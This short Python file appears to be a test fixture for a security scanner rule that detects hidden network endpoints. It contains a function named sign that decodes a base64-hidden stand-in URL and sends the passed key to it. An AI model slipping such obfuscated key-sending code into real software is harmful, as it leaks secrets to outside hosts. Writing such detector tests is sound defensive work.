# canary-test: path=mypkg/account.py artifact=wheel
# The collection URL is stored base64-encoded (it decodes to https://example.invalid/).
import base64

import requests

KEY = "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv"


def sign(key):
    # ruleid: HIDDEN_NETWORK_ENDPOINT
    requests.get(base64.b64decode(KEY).decode() + key)

